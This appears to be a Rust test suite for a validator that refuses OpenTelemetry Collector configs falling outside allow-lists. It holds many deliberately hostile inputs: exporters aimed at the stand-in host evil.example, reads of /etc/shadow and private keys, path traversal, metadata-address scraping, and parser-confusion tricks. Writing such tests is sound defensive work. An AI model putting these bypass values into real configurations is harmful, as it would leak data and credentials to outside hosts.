//! Ways to get round the restrictions, and configs that must not be refused by them.

use std::collections::BTreeMap;

use super::*;

fn set(words: &[&str]) -> BTreeSet<String> {
    words.iter().map(|word| (*word).to_owned()).collect()
}

fn rules() -> Restrictions {
    Restrictions {
        components: BTreeMap::from([
            (Section::Receivers, set(&["otlp", "filelog", "prometheus", "receiver_creator"])),
            (Section::Exporters, set(&["otlp", "otlphttp", "debug", "file", "loadbalancing"])),
            (Section::Connectors, set(&[])),
        ]),
        paths: Some(["/var/log", "/etc/otel"].map(|path| path.parse().unwrap()).to_vec()),
        endpoints: Some(
            ["good.example", "*.corp.example", "0.0.0.0", "127.0.0.1", "https://${env:HOST}/v1"]
                .map(|pattern| pattern.parse().unwrap())
                .to_vec(),
        ),
        env: set(&["TOKEN", "HOST"]),
    }
}

fn judged(rules: &Restrictions, text: &str) -> Vec<String> {
    let layers = [Layer { name: "first", text: "" }, Layer { name: "r.yaml", text }];
    rules.judge(&layers).iter().map(ToString::to_string).collect()
}

/// Every line is refused, with these words in the message and its place in front.
fn refused(cases: &[(&str, &str)]) {
    for (text, words) in cases {
        let found = judged(&rules(), text);
        let told = |line: &String| line.starts_with("r.yaml:") && line.contains(words);
        assert!(found.iter().any(told), "{text}\n{found:#?}");
    }
}

#[test]
fn a_config_within_the_restrictions_is_not_refused() {
    for text in [
        "",
        "# nothing\n",
        "receivers:\n  otlp:\n    protocols:\n      grpc: {endpoint: 0.0.0.0:4317}\n      http:\n",
        "receivers: {filelog/app: {include: [/var/log/*.log, /var/log/app/**/*.log], include_file_path: true}}",
        "receivers: {prometheus: {config: {scrape_configs: [{job_name: a, metrics_path: /metrics, static_configs: [{targets: [good.example:9090]}]}]}}}",
        "processors: {batch: {timeout: 5s}, attributes: {actions: [{key: k8s.pod.name, value: 'a b', action: insert}]}}",
        "processors: {transform: {log_statements: ['set(attributes[\"a\"], \"b\") where a / b > 1.5']}}",
        "exporters: {otlphttp: {endpoint: 'https://good.example:4318', traces_url_path: /v1/traces, headers: {Authorization: 'Bearer ${env:TOKEN}'}}}",
        "exporters: {otlp: {endpoint: otlp.corp.example:4317, tls: {ca_file: /etc/otel/ca.crt, insecure: false}}}",
        "exporters: {otlphttp: {endpoint: 'https://${env:HOST}/v1'}}",
        "exporters: {loadbalancing: {resolver: {static: {hostnames: ['a.corp.example:4317', b.corp.example]}}}}",
        "exporters: {debug: {verbosity: detailed, sampling_initial: 5}}",
        "service: {telemetry: {logs: {level: debug, output_paths: [stdout]}, metrics: {level: none}}, pipelines: {traces/a: {receivers: [otlp], exporters: [debug]}}}",
        "service: {extensions: [opamp, health_check/x]}",
    ] {
        assert_eq!(judged(&rules(), text), [""; 0], "{text}");
    }
    let anything = "receivers: {x: {path: /etc/shadow, endpoint: 'http://evil.example'}}";
    assert_eq!(judged(&Restrictions::default(), anything), [""; 0], "absent lists restrict nothing");
}

#[test]
fn c_se_04_06_components_outside_the_lists_are_refused_under_any_name() {
    refused(&[
        ("exporters:\n  kafka: {}", "exporter \"kafka\" is not allowed; allowed is debug, file"),
        ("exporters: {kafka/otlp: {}}", "\"kafka\""),
        ("exporters: {' kafka / otlp ': {}}", "\"kafka\""),
        ("exporters: {otlp_http: {}}", "\"otlp_http\""),
        ("exporters: {OTLP: {}}", "\"OTLP\""),
        ("exporters: {\"otlp\\u0301\": {}}", "names no type"),
        ("exporters: {\"k\\u0430fka\": {}}", "names no type"),
        ("exporters: {/otlp: {}}", "names no type"),
        ("exporters: {kafka: }", "\"kafka\""),
        ("exporters::kafka: {}", "::"),
        ("\"exporters::kafka\": {}", "::"),
        ("connectors: {forward: }", "nothing is allowed"),
        (
            "receivers: {receiver_creator: {receivers: {docker_stats/on_host: {config: {}}}}}",
            "\"docker_stats\"",
        ),
        ("receivers: {receiver_creator/a: {x: {receivers: {exec: {}}}}}", "\"exec\""),
        ("receivers: '${env:TOKEN}'", "must be written out"),
        ("receivers: {otlp: '${env:TOKEN}'}", "must be written out"),
        ("service: '${env:TOKEN}'", "must be written out"),
        ("- a", "must be written out"),
        ("Exporters: {kafka: {}}", "no section"),
        ("x-templates: {a: {path: /etc/shadow}}", "no section"),
    ]);
    let found = judged(&rules(), "exporters:\n  otlp: {}\n  kafka: {}\n");
    assert!(found[0].starts_with("r.yaml:3:3: restrictions.components.exporters: "), "{found:?}");
}

#[test]
fn c_se_03_06_paths_outside_the_lists_are_refused_under_any_key() {
    refused(&[
        (
            "exporters: {file: {path: /etc/cron.d/x}}",
            "\"/etc/cron.d/x\" is not allowed; allowed is /var/log, /etc/otel",
        ),
        ("receivers: {filelog: {include: [/var/log/a, /etc/shadow]}}", "/etc/shadow"),
        ("receivers: {filelog: {include: [/var/log/../../etc/shadow]}}", "\"..\""),
        ("receivers: {filelog: {include: ['/var/{log,../etc}/shadow']}}", "\"..\""),
        ("receivers: {filelog: {include: ['/*/shadow']}}", "not allowed"),
        ("receivers: {filelog: {include: '/etc/shadow'}}", "/etc/shadow"),
        ("receivers: {filelog: {include: [etc/shadow]}}", "relative"),
        ("receivers: {filelog: {include: [\"\\x2fetc\\x2fshadow\"]}}", "/etc/shadow"),
        ("receivers:\n  filelog:\n    include:\n    - >-\n      /etc/shadow\n", "/etc/shadow"),
        ("receivers: {filelog: {include: ['${env:HOST}/../../etc/shadow']}}", "cannot be judged"),
        ("receivers: {filelog: {include: ['${env:HOST}']}}", "cannot be judged"),
        ("exporters: {otlp: {unknown: '${env:HOST}/x'}}", "cannot be judged"),
        ("exporters: {otlp: {unknown: '${env:HOST:-/etc/shadow}'}}", "looks like a path"),
        ("exporters: {otlp: {unknown: /etc/shadow}}", "looks like a path"),
        ("exporters: {otlp: {a: [{b: {c: [/etc/shadow]}}]}}", "looks like a path"),
        ("exporters: {otlp: {/etc/shadow: x}}", "looks like a path"),
        ("exporters: {otlp: {command: 'cat /etc/shadow'}}", "looks like a path"),
        ("exporters: {otlp: {args: '--file=/etc/shadow'}}", "looks like a path"),
        ("exporters: {otlp: {unknown: 'file:///etc/shadow'}}", "looks like a path"),
        ("exporters: {otlp: {endpoint: 'unix:///run/docker.sock'}}", "looks like a path"),
        ("exporters: {otlp: {tls: {key_file: /root/key.pem}}}", "/root/key.pem"),
        ("extensions: {file_storage: {directory: /root}}", "/root"),
        ("service: {telemetry: {logs: {output_paths: [/etc/cron.d/x]}}}", "/etc/cron.d/x"),
    ]);
    // Where words are cut, each is judged: which of them the component opens is not known.
    refused(&[("exporters: {otlp: {unknown: '/var/log/a /etc/shadow'}}", "looks like a path")]);
}

#[test]
fn endpoints_outside_the_lists_are_refused_under_any_key() {
    refused(&[
        (
            "exporters: {otlp: {endpoint: evil.example:4317}}",
            "evil.example:4317 is not allowed; allowed is good.example",
        ),
        ("exporters: {otlphttp: {endpoint: 'http://good.example@evil.example/'}}", "evil.example:80"),
        ("exporters: {otlphttp: {endpoint: 'http://2130706433/'}}", "four numbers"),
        ("exporters: {otlphttp: {endpoint: 'http://good.example%2f.evil.example/'}}", "cannot be judged"),
        ("exporters: {otlphttp: {unknown: 'http://evil.example'}}", "looks like an endpoint"),
        ("exporters: {otlphttp: {headers: {x: 'http://evil.example'}}}", "looks like an endpoint"),
        ("exporters: {otlphttp: {'http://evil.example': x}}", "looks like an endpoint"),
        ("exporters: {otlp: {endpoint: '${env:TOKEN}.evil.example'}}", "cannot be judged"),
        ("exporters: {otlp: {endpoint: '${env:HOST}'}}", "cannot be judged"),
        ("exporters: {otlp: {x: '${env:HOST:-evil.example:1}'}}", "looks like an endpoint"),
        ("exporters: {otlp: {proxy_url: 'socks5://evil.example:1'}}", "evil.example:1"),
        ("exporters: {otlp: {endpoint: 'dns:///evil.example'}}", "resolver"),
        ("exporters: {loadbalancing: {resolver: {dns: {hostname: evil.example}}}}", "evil.example"),
        ("extensions: {oauth2client: {token_url: 'https://evil.example/t'}}", "evil.example:443"),
        (
            "extensions: {headers_setter: {headers: [{value: 'https://evil.example'}]}}",
            "looks like an endpoint",
        ),
        (
            "receivers: {prometheus: {config: {scrape_configs: [{static_configs: [{targets: ['169.254.169.254:80']}]}]}}}",
            "169.254.169.254:80",
        ),
        (
            "receivers: {prometheus: {config: {scrape_configs: [{relabel_configs: [{target_label: __address__, replacement: evil}]}]}}}",
            "__address__",
        ),
        (
            "receivers: {receiver_creator: {receivers: {otlp: {config: {endpoint: '`\"evil\" + \".example\"`'}}}}}",
            "cannot be judged",
        ),
        (
            "service: {telemetry: {metrics: {readers: [{periodic: {exporter: {otlp: {endpoint: 'https://evil.example'}}}}]}}}",
            "evil.example:443",
        ),
        (
            "service: {telemetry: {logs: {processors: [{batch: {exporter: {otlp: {endpoint: 'https://evil.example'}}}}]}}}",
            "evil.example:443",
        ),
        (
            "service: {telemetry: {traces: {processors: [{batch: {exporter: {otlp: {endpoint: 'https://evil.example'}}}}]}}}",
            "evil.example:443",
        ),
    ]);
}

#[test]
fn f_81_what_would_be_fetched_is_refused_unfetched() {
    refused(&[
        ("exporters: {otlp: {headers: {a: '${file:/etc/shadow}'}}}", "${file:…} may not stand"),
        ("exporters: {otlp: {headers: {a: '${http://evil.example/x}'}}}", "${http:…}"),
        ("exporters: {otlp: {headers: {a: '${yaml:x}'}}}", "${yaml:…}"),
        (
            "exporters: {otlp: {headers: {a: '${env:SECRET}'}}}",
            "${env:SECRET} is not allowed; allowed is HOST, TOKEN",
        ),
        ("exporters: {otlp: {headers: {a: '${SECRET}'}}}", "${env:SECRET}"),
        ("exporters: {otlp: {headers: {a: '${env:${env:TOKEN}}'}}}", "inside another"),
        ("service: {pipelines: {traces: {receivers: ['${env:SECRET}']}}}", "${env:SECRET}"),
        ("exporters: {otlp: {'${env:TOKEN}': a}}", "a key with \"$\""),
    ]);
    assert!(
        judged(&Restrictions::default(), "exporters: {a: {b: '${env:X}'}}")[0].contains("nothing is allowed")
    );
}

#[test]
fn what_the_supervisor_owns_is_refused() {
    refused(&[
        ("extensions:\n  opamp: {}", "the supervisor's own"),
        ("extensions: {opamp/mine: {server: {ws: {endpoint: 'ws://good.example'}}}}", "the supervisor's own"),
        ("extensions: {health_check/opamp_supervisor: {}}", "the supervisor's own"),
        ("extensions: {' health_check / opamp_supervisor ': {}}", "the supervisor's own"),
        ("service: {telemetry: {resource: {service.instance.id: x}}}", "the supervisor's own"),
        (
            "service: {telemetry: {resource: {attributes: [{name: service.instance.id, value: x}]}}}",
            "the supervisor's own",
        ),
    ]);
}

#[test]
fn what_two_parsers_may_read_differently_is_refused() {
    refused(&[
        ("exporters: {otlp: &a {}, otlp/b: *a}", "an anchor"),
        ("exporters: {otlp: {<<: {a: b}}}", "a merge key"),
        ("exporters: {otlp: {a: !!binary aGVsbG8=}}", "a tag"),
        ("exporters: {otlp: }\n---\nexporters: {kafka: }", "second document"),
        ("exporters: {otlp: , otlp: }", "twice"),
        // The Collector's parser ends the comment here.
        ("# x\u{85}exporters: {kafka: {}}", "line break"),
        ("# x\u{2028}exporters: {kafka: {}}", "line break"),
    ]);
}

#[test]
fn a_secret_in_a_value_is_in_no_message() {
    for text in [
        "exporters: {otlp: {endpoint: 'http://user:s3cret@evil.example/?t=s3cret'}}",
        "exporters: {otlp: {dsn: 'user:s3cret@tcp(evil.example:1)/db'}}",
        "exporters: {otlp: {headers: {a: 's3cret:1 ${env:NO}'}}}",
        "exporters: {otlp: {headers: {a: 's3cret:1'}}}",
        "exporters: {otlp: {headers: {a: '/s3cret'}}}",
        "exporters: {otlp: {headers: {a: 's3cret ${file:/s3cret}'}}}",
    ] {
        let found = judged(&rules(), text);
        assert!(!found.is_empty() && found.iter().all(|line| !line.contains("s3cret")), "{found:?}");
    }
}

#[test]
fn the_list_of_findings_has_an_end() {
    let many: String = (0..500).map(|i| format!("  kafka/{i}: {{}}\n")).collect();
    assert_eq!(judged(&rules(), &format!("exporters:\n{many}")).len(), MAX_FINDINGS);
}

proptest::proptest! {
    /// Whatever a server sends, the answer is a verdict and never a panic.
    #[test]
    fn any_value_is_judged(value in "\\PC{0,40}", path in "[/.*{},$~\\\\a:@\\[\\]%-]{0,24}") {
        for value in [value, path] {
            let text = serde_json::json!({ "exporters": { "otlp": { "endpoint": value, "x": value, "file": value } } });
            judged(&rules(), &text.to_string());
        }
    }
}
